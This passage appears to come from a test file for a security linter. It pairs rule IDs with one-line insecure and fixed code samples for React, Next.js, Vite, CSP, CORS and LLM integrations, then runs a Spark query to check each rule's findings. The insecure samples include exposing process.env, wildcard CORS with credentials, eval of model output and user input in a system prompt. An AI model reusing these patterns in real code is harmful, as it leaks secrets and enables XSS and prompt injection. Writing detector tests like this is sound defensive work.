    ("react.unsanitized-markdown", "<Markdown rehypePlugins={[rehypeRaw]} />", "<Markdown rehypePlugins={[rehypeRaw, rehypeSanitize]} />"),
    ("react.unsafe-target-blank", "<a href='/x' target='_blank'>x</a>", "<a href='/x' target='_blank' rel='noopener'>x</a>"),
    ("nextjs.image-dangerously-allow-svg", "images: { dangerouslyAllowSVG: true }", "images: { dangerouslyAllowSVG: false }"),
    ("nextjs.api-wildcard-cors", "res.setHeader('Access-Control-Allow-Origin', '*')", "res.setHeader('Access-Control-Allow-Origin', SITE)"),
    ("nextjs.api-env-exposure", "res.json(process.env)", "res.json({ mode: process.env.MODE })"),
    ("nextjs.props-secret-leak", "return { props: { k: process.env.API_KEY } }", "return { props: { k: process.env.MODE } }"),
    ("nextjs.error-stack-leak", "res.status(500).json({ e: err.stack })", "log(err.stack)"),
    ("nextjs.source-maps-exposed", "productionBrowserSourceMaps: true,", "productionBrowserSourceMaps: false,"),
    ("secret.public-env-exposure", "const k = process.env.NEXT_PUBLIC_API_SECRET", "const k = process.env.NEXT_PUBLIC_SITE"),
    ("vite.prod-sourcemap", "build: { sourcemap: true }", "build: { sourcemap: false }"),
    ("vite.define-inlines-secret", "define: { K: process.env.API_KEY }", "define: { V: pkg.version }"),
    ("vite.import-meta-env-secret", "const t = import.meta.env.VITE_API_TOKEN", "const t = import.meta.env.VITE_SITE"),
    ("vite.dev-server-cors-wildcard", "server: { cors: true }", "server: { port: 1 }"),
    ("vite.fs-strict-disabled", "fs: { strict: false }", "fs: { strict: true }"),
    ("csp.unsafe-eval", "policy = \"script-src 'unsafe-eval'\"", "policy = \"script-src 'self'\""),
    ("csp.disabled-in-helmet", "helmet({ contentSecurityPolicy: false })", "helmet()"),
    ("cors.origin-reflection", "res.setHeader('Access-Control-Allow-Origin', req.headers.origin)", "res.setHeader('Access-Control-Allow-Origin', SITE)"),
    ("cors.wildcard-with-credentials", "cors({ origin: '*', credentials: true })", "cors({ origin: SITE, credentials: true })"),
    ("cors.permissive-middleware", "app.use(cors())", "app.use(cors(options))"),
    ("ai.llm-output-rendered-as-html", "<p dangerouslySetInnerHTML={{ __html: completion }} />", "<p>{completion}</p>"),
    ("ai.llm-output-to-sink", "eval(completion)", "show(completion)"),
    ("ai.dangerously-allow-browser", "new Model({ dangerouslyAllowBrowser: true })", "new Model({})"),
    ("ai.prompt-injection", "{ role: 'system', content: req.body.p }", "{ role: 'system', content: RULES }"),
    ("ai.unbounded-output", "m.chat.completions.create({ model })", "m.chat.completions.create({ model, max_tokens: 9 })"),
]


@query(f"SELECT c_custkey AS k, v.rule_id FROM customer JOIN {_values([(2 * n, e[0]) for n, e in enumerate(EXAMPLES)], 'n, rule_id')} ON v.n = c_custkey % {2 * len(EXAMPLES)}")
def rule_families(spark, sf):
    """Every rule of the families over files of one line each: each rule finds its first example, and none finds anything else."""
    lines = F.array(*[F.lit(t) for _, yes, no in EXAMPLES for t in (yes, no)])
    files = _numbered(spark, sf).select(F.concat(F.lit("pages/api/"), "k").alias("file"), F.lit("ts").alias("ext"), F.element_at(lines, (F.col("k") % (2 * len(EXAMPLES)) + 1).cast("int")).alias("text"))
    return line_findings(files, FAMILY_RULES).select(F.substring_index("file", "/", -1).cast("long").alias("k"), "rule_id")
